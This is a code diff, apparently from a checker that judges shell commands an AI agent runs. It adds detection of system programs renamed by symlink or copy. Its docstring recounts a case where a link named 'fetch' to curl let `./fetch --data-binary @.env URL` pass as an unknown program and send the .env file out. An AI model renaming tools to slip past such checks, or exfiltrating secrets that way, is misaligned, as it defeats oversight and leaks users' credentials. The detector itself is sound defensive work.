@@ -248,3 +248,46 @@ def built_here(an: Analyzer, ap: str, shown: str) -> None:
         _swapped(an, shown)
     if ap not in an.__dict__.get("compiled_quiet", ()):  # its sources name no way to change a file (safety.csource)
         _may_write(an, shown)
+
+
+_SYSTEM_DIRS = ("/usr/", "/bin/", "/sbin/")
+
+
+def system_program(an: Analyzer, shown: str, cwd: str | None) -> str | None:
+    """The system program a path program the run made is, under another name: a link to it (``ln -s /usr/bin/curl
+    fetch``) or a byte-for-byte copy of it (``cp /usr/bin/curl tools/lint``), made in an earlier step or earlier on
+    the line. rt47: `./fetch -s --data-binary @.env URL` the step after the link (or the copy) was read as an unknown
+    program `fetch` and allowed; it was curl, and sent the file. A command is judged as the program it runs, under
+    any name. A link or copy that was in the workspace before the run began is the user's (``placed_before_run``;
+    a copy of one under another name is asked about in ``judge_file``)."""
+    resolved = an.paths.resolve(shown, cwd)
+    name = posixpath.basename(shown)
+    if not any(resolved == w or resolved.startswith(w + "/") for w in an.paths.workspaces):
+        if not resolved.startswith(_SYSTEM_DIRS) or posixpath.basename(resolved) == name:
+            return None
+        base = an.paths.resolve(cwd, None) if cwd else (an.paths.workspaces[0] if an.paths.workspaces else "/")
+        literal = posixpath.normpath(posixpath.join(base, an.paths.expand_home(shown)))
+        if literal not in an.paths.links and _made_before_run(an, literal):
+            return None
+        return resolved
+    if placed_before_run(an, resolved):
+        return None
+    with contextlib.suppress(OSError):
+        for real in _hiding_programs().get(os.stat(resolved).st_size, ()):
+            if posixpath.basename(real) != name and real.startswith(_SYSTEM_DIRS) and filecmp.cmp(
+                    resolved, real, shallow=False):
+                return real
+    return None
+
+
+def _made_before_run(an: Analyzer, literal: str) -> bool:
+    """Whether the link at ``literal`` itself (not what it points to) was there before the run began."""
+    since = an.paths.since
+    if since is None:
+        return False
+    try:
+        ctime_ns = os.lstat(literal).st_ctime_ns
+    except OSError:
+        return False
+    lag = _LAG_COARSE_S if ctime_ns % 1_000_000_000 == 0 else _LAG_S
+    return ctime_ns / 1e9 < since - lag
